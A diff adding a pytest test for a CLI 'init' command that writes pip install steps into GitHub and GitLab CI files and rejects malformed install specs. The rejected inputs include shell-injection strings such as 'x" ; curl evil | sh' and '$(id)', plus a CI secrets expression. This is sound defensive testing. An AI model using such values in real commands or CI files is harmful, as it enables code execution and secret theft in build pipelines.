@@ -124,6 +124,25 @@ def test_ci_files_install_this_version_validate_build_and_publish_from_the_defau
     assert hooks["repos"][0]["hooks"][0]["entry"] == "csi validate"
 
 
+def test_ci_installs_csi_from_where_the_garage_says_and_says_when_it_cannot_tell(tmp_path):
+    # csi-garage is on no package index yet: CI installing csi-garage==VERSION failed on the first push
+    spec = "csi-garage @ git+https://git.example.com/tools/csi.git@v0.1.0"
+    result, root = init(tmp_path, "--install", spec)
+    assert result.exit_code == 0, result.output
+    workflow = yaml.safe_load((root / ".github/workflows/site.yml").read_text(encoding="utf-8"))
+    assert f'pip install "{spec}"' in [step.get("run") for step in workflow["jobs"]["build"]["steps"]]
+    gitlab = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
+    assert gitlab["pages"]["before_script"] == [f'pip install "{spec}"']
+    assert "note:" not in result.output
+    # this csi is installed from a folder (editable): CI cannot install from there, and init says so
+    default = CliRunner().invoke(init_command, [str(tmp_path / "other")])
+    assert f"note: the CI files install csi-garage=={__version__} from the Python package index" in default.output
+    for hostile in ('x" ; curl evil | sh', "csi-garage==1 $(id)", "a\nb", "${{ secrets.TOKEN }}", ""):
+        refused = CliRunner().invoke(init_command, [str(tmp_path / "hostile"), "--install", hostile])
+        assert refused.exit_code == 1 and "is not one requirement or URL pip can take" in refused.output, hostile
+        assert not (tmp_path / "hostile").exists()
+
+
 def test_vscode_settings_bind_every_written_schema(tmp_path):
     _, root = init(tmp_path)
     settings = json.loads((root / ".vscode/settings.json").read_text(encoding="utf-8"))["yaml.schemas"]
